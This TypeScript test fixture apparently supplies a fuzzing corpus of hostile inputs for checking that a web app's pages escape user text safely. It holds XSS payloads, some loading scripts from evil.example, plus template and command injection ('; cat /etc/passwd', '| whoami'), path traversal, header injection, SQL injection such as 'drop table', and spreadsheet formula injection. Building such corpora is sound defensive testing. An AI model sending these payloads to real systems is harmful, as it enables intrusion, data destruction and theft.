/** Executed code sets `window.__pwned`; injected elements exceed the page width. */
const RUN = "window.__pwned=1";
const MARKUP = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`, `--><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<IMG SRC=x ONERROR="${RUN}">`, `"><img src=x onerror=${RUN}>`, `<img src=x:x onerror=${RUN}//`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`, `<marquee onstart=${RUN}>`, `<a href="javascript:${RUN}">click</a>`, `<a href="data:text/html,<script>opener.${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>`, `<button formaction="javascript:${RUN}">`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{display:none!important}</style>`, `<style>@import '//evil.example/x.css';</style>`, `<div style="position:fixed;inset:0;width:3000px">`,
  `<table width=5000><tr><td>`, `<h1>Big</h1>`, `<!--`, `-->`, `<![CDATA[`, `]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE html>`, `<plaintext>`, `<xmp>`, `</body></html>`, `</div></div></main>`, `<template><script>${RUN}</script></template>`,
]; // prettier-ignore
const ATTRIBUTES = [
  `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}`, `" style="position:fixed;width:4000px`, `x" onerror="${RUN}" y="`, "` onerror=`" + RUN,
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `//evil.example/x.png`, `https://evil.example/x.png`,
  `&quot; onload=&quot;${RUN}`, `&#34;&gt;&lt;script&gt;${RUN}`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}`, `\\x3cscript\\x3e${RUN}`,
]; // prettier-ignore
const SCRIPTS = [
  `</script><script>${RUN}</script>`, `</SCRIPT ><script>${RUN}</script>`, `<!--<script>`, `</script><img src=x onerror=${RUN}>`, `"};${RUN};//`, `'};${RUN};//`, `\\";${RUN};//`, `\u2028${RUN}\u2029`, `\\u2028${RUN}`,
  `";${RUN};"`, `';${RUN};'`, `\${${RUN}}`, "`;" + RUN + ";`", `*/${RUN}/*`, `//${RUN}`, `{"@type":"Thing"}`, `","price":"0.01`, `__proto__`, `constructor`, `{"__proto__":{"polluted":1}}`,
]; // prettier-ignore
const TEMPLATES = [
  `{{7*7}}`, `{{constructor.constructor('${RUN}')()}}`, "${7*7}", `#{7*7}`, `<%= 7*7 %>`, `{%debug%}`, `{{{7*7}}}`, `[[7*7]]`, `$(id)`, "`id`", `; cat /etc/passwd`, `| whoami`, `&& sleep 5`, `../../../../etc/passwd`, `..\\..\\windows`, `%2e%2e%2f`, `%00`, `%0d%0aSet-Cookie:x=1`, `\r\nX-Injected: 1`, `file:///etc/passwd`,
]; // prettier-ignore
const SQL = [
  `'; drop table products; --`, `' or '1'='1`, `" or ""="`, `1; select pg_sleep(5)`, `') or ('1'='1`, `\\'; drop table users; --`, `admin'--`, `%' or 1=1 --`, `%`, `_`, `\\`, `'`, `"`, `''`, `$1`, `:*`, `a & | b`, `!(`, `E'\\x00'`, `'||(select version())||'`,
]; // prettier-ignore
const FORMULAS = [
  `=1+1`, `=HYPERLINK("//evil.example","x")`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, `\t=1+1`, `'=1+1`, `"=1+1"`, `;=1+1`, `a,b,"c`, `a"b`, `a\nb`,
]; // prettier-ignore
const UNICODE = [
  "\u202Eevods\u202C", "\u2066abc\u2069", "\u200Babc\u200Bdef", "\uFEFFabc", "a\u0300\u0301\u0302\u0303\u0304\u0305", "Z" + "\u0351\u036B\u0343\u036A\u0302".repeat(12), "👩‍👩‍👧‍👦".repeat(20), "🇵🇭".repeat(30), "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "👍🏽".repeat(20),
  "مرحبا بالعالم", "שלום עולם", "مرحبا <b>hello</b> שלום", "日本語のとても長い商品名".repeat(6), "ภาษาไทยไม่มีช่องว่างระหว่างคำ".repeat(3), "İıſßﬁ", "\uD800", "x\uDFFFy", "\u{10FFFF}", "\uFFFE\uFFFF", "\u00AD".repeat(40), "ﷺ﷽".repeat(30), "\u3164", "\u00A0\u2003\u3000.", "𝕳𝖊𝖑𝖑𝖔", "①②③½²", "⁂‽⸘",
]; // prettier-ignore
const LONG = [
  "W".repeat(100), "W".repeat(200), "a".repeat(99) + " b", "i".repeat(200), "_".repeat(150), "https://example.com/" + "path".repeat(40), "word ".repeat(40), "—".repeat(120), "😀".repeat(99), "Supercalifragilistic".repeat(9),
]; // prettier-ignore
const EMPTYISH = [
  "null",
  "undefined",
  "NaN",
  "true",
  "false",
  "0",
  "-0",
  "1e309",
  "[object Object]",
  "[]",
  "{}",
  "None",
  "nil",
  "(null)",
];

export const hostileStrings = [
  MARKUP,
  ATTRIBUTES,
  SCRIPTS,
  TEMPLATES,
  SQL,
  FORMULAS,
  UNICODE,
  LONG,
  EMPTYISH,
].flat();

export function someHostileStrings(count: number): string[] {
  return Array.from(
    { length: count },
    (_, index) => hostileStrings[Math.floor((index * hostileStrings.length) / count)]!,
  );
}
